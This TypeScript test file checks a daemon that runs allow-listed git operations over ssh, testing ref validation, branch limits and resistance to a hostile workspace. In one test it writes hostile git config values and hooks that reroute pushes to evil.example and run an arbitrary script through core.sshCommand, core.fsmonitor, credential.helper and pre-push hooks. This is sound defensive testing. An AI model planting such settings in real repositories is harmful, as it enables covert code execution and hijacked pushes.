import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { Base, TOKEN } from "../../fixtures/base.ts";
import { requireTools } from "../../fixtures/backends/present.ts";
import { startSshd, type SshServer } from "../../fixtures/backends/sshd.ts";
import { startDaemon, type RunningDaemon } from "../../fixtures/daemon.ts";
import { run } from "../../fixtures/exchange.ts";
import { git, makeRepo } from "../../fixtures/repo.ts";
import { tempDirectory } from "../../fixtures/temp.ts";
import type { OperationTemplate } from "../../../wire/schema.ts";

const text = { type: "string" } as const;
const URL = "{expected_git_url}";

function gitOperation(args: readonly string[], ...names: readonly string[]): OperationTemplate {
  return {
    command: "git",
    args_template: [...args],
    params: Object.fromEntries(names.map((name) => [name, text])),
  };
}

const OPERATIONS: Readonly<Record<string, OperationTemplate>> = {
  push: gitOperation(["push", URL, "{src}:refs/heads/{dst}"], "src", "dst"),
  fetch: gitOperation(["fetch", URL, "+refs/heads/*:refs/remotes/origin/*"]),
  list: gitOperation(["ls-remote", URL]),
  status: gitOperation(["status", "--short", "--branch"]),
  add: gitOperation(["add", "-A"]),
  commit: gitOperation(["commit", "-q", "-m", "{m}"], "m"),
  checkout: gitOperation(["checkout", "-q", "-b", "{m}"], "m"),
  clone: gitOperation(["clone", URL, "x"]),
  odd: { ...gitOperation(["x"]), command: "/usr/lib/git-core/git-log" },
};

let server: SshServer;
let daemon: RunningDaemon;
let repo = "";
let home = "";

beforeAll(async () => {
  server = await startSshd();
  home = tempDirectory();
  writeFileSync(join(home, ".gitconfig"), "[user]\n\tname = Owner\n\temail = owner@example.org\n");
  const base = new Base();
  repo = join(tempDirectory(), "repo");
  base
    .writeProject("owner_repo", {
      repos: ["owner/repo"],
      repo_paths: [repo],
      constraints: { branch_allow: ["ai/.*", "main"] },
      allowed_operations: Object.keys(OPERATIONS),
      operations: OPERATIONS,
    })
    .writeToken(TOKEN, { repo: "owner/repo" });
  makeRepo(repo);
  daemon = await startDaemon(base, { default_timeout: 30 }, { ...server.env, HOME: home });
});

beforeEach(() => {
  server.repository("owner/repo");
});

async function call(operation: string, params: Readonly<Record<string, string>> = {}) {
  return run(daemon.address, { operation, params });
}

describe.runIf(requireTools(["git", "ssh", "ssh-keygen", "sshd"]))("git through the daemon, over ssh", () => {
  it("stages, commits, pushes and fetches, and reaches only the project's repository [promise 6]", async () => {
    writeFileSync(join(repo, "b"), "b");
    expect(await call("add")).toMatchObject({ exit_code: 0 });
    expect(await call("commit", { m: "second" })).toMatchObject({ exit_code: 0, stderr: "" });
    expect(await call("checkout", { m: "ai/y" })).toMatchObject({ exit_code: 0 });
    expect(await call("status")).toMatchObject({ exit_code: 0, stdout: "## ai/y\n" });
    expect(await call("push", { src: "HEAD", dst: "ai/y" })).toMatchObject({ exit_code: 0 });
    expect((await call("push", { src: "main", dst: "main" })).stderr).toContain("main -> main");
    expect(server.refs("owner/repo").get("refs/heads/ai/y")).toBe(git(repo, "rev-parse", "HEAD").trim());
    expect(git(repo, "log", "-1", "--format=%an")).toBe("Owner\n");

    const other = join(tempDirectory(), "other");
    git(home, "clone", "-q", server.repository("owner/repo"), other);
    git(other, "commit", "-q", "--allow-empty", "-m", "elsewhere");
    git(other, "push", "-q", "origin", "HEAD:refs/heads/from-elsewhere");
    expect(await call("fetch")).toMatchObject({ exit_code: 0 });
    expect(git(repo, "log", "-1", "--format=%s", "origin/from-elsewhere")).toBe("elsewhere\n");
    expect((await call("list")).stdout).toContain("refs/heads/from-elsewhere");
    expect([git(repo, "fsck", "--no-dangling"), git(repo, "status", "--short")]).toEqual(["", ""]);
    expect(new Set(server.received())).toEqual(
      new Set(["git-receive-pack 'owner/repo.git'", "git-upload-pack 'owner/repo.git'"]),
    );
    expect(server.received("evil.example")).toEqual([]);
  });

  it("refuses before anything runs what it does not do, and what is not there [promise 3]", async () => {
    const asked = server.received().length;
    expect(await call("push", { src: "nope", dst: "ai/x" })).toMatchObject({ code: "git_ref_invalid" });
    expect(await call("push", { src: "HEAD~1", dst: "ai/x" })).toMatchObject({ code: "git_ref_invalid" });
    expect(await call("push", { src: "main", dst: "elsewhere" })).toMatchObject({ code: "branch_denied" });
    expect(await call("clone")).toMatchObject({ code: "git_unsupported" });
    if (existsSync("/usr/lib/git-core/git-log")) expect(await call("odd")).toMatchObject({ code: "git_unsupported" });
    expect(server.received()).toHaveLength(asked);
  });

  it("pushes to the project's repository, started by nobody, from a workspace that says otherwise [promise 5, 6]", async () => {
    const marker = join(home, "marker");
    const program = join(home, "program");
    writeFileSync(program, `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
    for (const [key, value] of [
      ["url.git@evil.example:.insteadOf", "git@github.com:"],
      ["url.git@evil.example:.pushInsteadOf", "git@github.com:"],
      ["core.sshCommand", program],
      ["core.fsmonitor", program],
      ["credential.helper", program],
      ["remote.git@github.com:owner/repo.git.receivepack", program],
      ["remote.git@github.com:owner/repo.git.pushurl", "git@evil.example:owner/repo.git"],
    ] as const)
      git(repo, "config", key, value);
    mkdirSync(join(repo, ".git/hooks"), { recursive: true });
    for (const hook of ["pre-push", "reference-transaction"])
      writeFileSync(join(repo, ".git/hooks", hook), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
    expect(await call("push", { src: "main", dst: "ai/hostile" })).toMatchObject({ exit_code: 0 });
    expect(await call("fetch")).toMatchObject({ exit_code: 0 });
    expect(server.refs("owner/repo").has("refs/heads/ai/hostile")).toBe(true);
    expect(await call("status")).toMatchObject({ code: "workspace_untrusted" });
    expect(server.received("evil.example")).toEqual([]);
    expect(existsSync(marker)).toBe(false);
  });
});
